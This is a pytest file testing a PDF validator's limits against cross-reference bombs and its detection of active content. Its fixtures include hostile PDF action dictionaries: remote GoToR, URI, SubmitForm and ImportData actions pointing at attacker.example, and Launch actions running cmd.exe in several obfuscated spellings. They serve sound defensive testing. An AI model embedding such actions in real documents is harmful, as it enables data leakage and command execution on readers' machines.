"""PDF structure checks bounded by work, not only by bytes (issue 24 item 3), and outbound actions as
active content unless a profile allows them (item 4). Real PDFs, parsed by the real pypdf."""

from __future__ import annotations

import time

import pytest

from tests.support import samples
from valet.validation.reasons import Reason, Rejection
from valet.validation.structure import PDF_OUTBOUND_ACTIONS, ImageLimits, PdfLimits, check_structure

PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def check(data: bytes, limits: PdfLimits | None = None) -> str:
    return check_structure(None, len(data), data, "application/pdf", ImageLimits(), pdf=limits).detail  # type: ignore[arg-type]


def reason_of(data: bytes, limits: PdfLimits | None = None) -> Reason:
    with pytest.raises(Rejection) as caught:
        check(data, limits)
    return caught.value.reason


def test_a_2_kb_pdf_listing_50000_objects_at_one_array_is_unverifiable_promptly() -> None:
    data = samples.pdf_xref_bomb()
    assert len(data) < 3000
    started = time.monotonic()
    assert reason_of(data) is Reason.PDF_UNVERIFIABLE
    assert time.monotonic() - started < 10  # was still parsing after 75 s; about 1 s on an idle machine


def test_a_pdf_listing_500000_entries_is_stopped_while_pypdf_opens_it() -> None:
    """pypdf reads one object header per cross-reference entry when it opens a file: those reads count
    against the bounds too (here only the clock, with a generous object bound)."""
    data = samples.pdf_xref_bomb(entries=500_000)
    assert len(data) < 8000
    started = time.monotonic()
    assert reason_of(data, PdfLimits(seconds=0.5, max_objects=10**9)) is Reason.PDF_UNVERIFIABLE
    assert time.monotonic() - started < 8  # about 1 s on an idle machine
    assert reason_of(data, PdfLimits(max_objects=1_000)) is Reason.PDF_UNVERIFIABLE  # the header count


def test_the_walk_is_bounded_by_objects_entries_and_time() -> None:
    many = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES,
                             *(b"[" + b"1 " * 500 + b"]" for _ in range(40))])
    assert check(many).startswith("PDF, 42 objects")
    assert reason_of(many, PdfLimits(max_elements=5_000)) is Reason.PDF_UNVERIFIABLE
    assert reason_of(many, PdfLimits(max_objects=10)) is Reason.PDF_UNVERIFIABLE
    assert reason_of(many, PdfLimits(seconds=0)) is Reason.PDF_UNVERIFIABLE


ONE_PAGE = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
LINKED_PAGE = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link "
               b"/Rect [0 0 100 20] /A 4 0 R >>] >>")


def action_pdf(action: bytes, *, where: str = "open") -> bytes:
    if where == "link":  # a link annotation a person clicks
        return samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>", ONE_PAGE, LINKED_PAGE, action])
    if where == "next":  # run on opening, second in a chain after a local jump
        return samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", ONE_PAGE, LINKED_PAGE,
                                 b"<< /S /GoTo /D [0 /Fit] >>", b"<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>", action])
    if where == "open":
        return samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, action])
    return samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, action])  # unreachable: still found


OUTBOUND = {
    "gotor_unc": b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>",
    "gotor_filespec": b"<< /S /GoToR /F << /Type /Filespec /F (//attacker.example/s/x.pdf) >> /D [0 /Fit] >>",
    "gotoe": b"<< /S /GoToE /T << /R /C /N (x) >> >>",
    "uri": b"<< /S /URI /URI (https://attacker.example/ping) >>",
    "submitform": b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>",
    "importdata": b"<< /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >>",
    "thread_remote": b"<< /S /Thread /F (\\\\\\\\attacker.example\\\\x.pdf) /D 0 >>",
}
LAUNCHES = {
    "plain": b"<< /S /Launch /F (cmd.exe) >>",
    "escaped_name": b"<< /S /L#61unch /F (cmd.exe) >>",
    "all_escaped": b"<< /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>",
    "string_type": b"<< /S (Launch) /F (cmd.exe) >>",
    "indirect_type": b"<< /S 4 0 R /F (cmd.exe) >>",
    "win_dictionary": b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
}


@pytest.mark.parametrize("name", sorted(OUTBOUND))
@pytest.mark.parametrize("where", ["open", "unreachable"])
def test_actions_that_reach_out_are_active_content(name: str, where: str) -> None:
    assert reason_of(action_pdf(OUTBOUND[name], where=where)) is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize("name", sorted(LAUNCHES))
def test_launch_in_every_spelling_is_active_content(name: str) -> None:
    data = samples.pdf_from([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>", PAGES, LAUNCHES[name],
                             b"/Launch"])
    assert reason_of(data) is Reason.ACTIVE_CONTENT
    assert reason_of(data, PdfLimits(allowed_actions=PDF_OUTBOUND_ACTIONS)) is Reason.ACTIVE_CONTENT


@pytest.mark.parametrize("name", sorted(OUTBOUND))
def test_a_profile_may_allow_outbound_actions_in_links(name: str) -> None:
    data = action_pdf(OUTBOUND[name], where="link")
    assert reason_of(data) is Reason.ACTIVE_CONTENT
    assert check(data, PdfLimits(allowed_actions=PDF_OUTBOUND_ACTIONS)).startswith("PDF,")


@pytest.mark.parametrize("name", sorted(OUTBOUND))
@pytest.mark.parametrize("where", ["open", "next"])
def test_no_profile_allows_an_outbound_action_run_when_the_document_opens(name: str, where: str) -> None:
    with pytest.raises(Rejection) as caught:
        check(action_pdf(OUTBOUND[name], where=where), PdfLimits(allowed_actions=PDF_OUTBOUND_ACTIONS))
    assert caught.value.reason is Reason.ACTIVE_CONTENT and "when it is opened" in caught.value.detail


def test_local_actions_and_threads_pass() -> None:
    for action in (b"<< /S /GoTo /D [0 /Fit] >>", b"<< /S /Thread /D 0 >>", b"<< /S /Named /N /NextPage >>"):
        assert check(action_pdf(action)).startswith("PDF,")
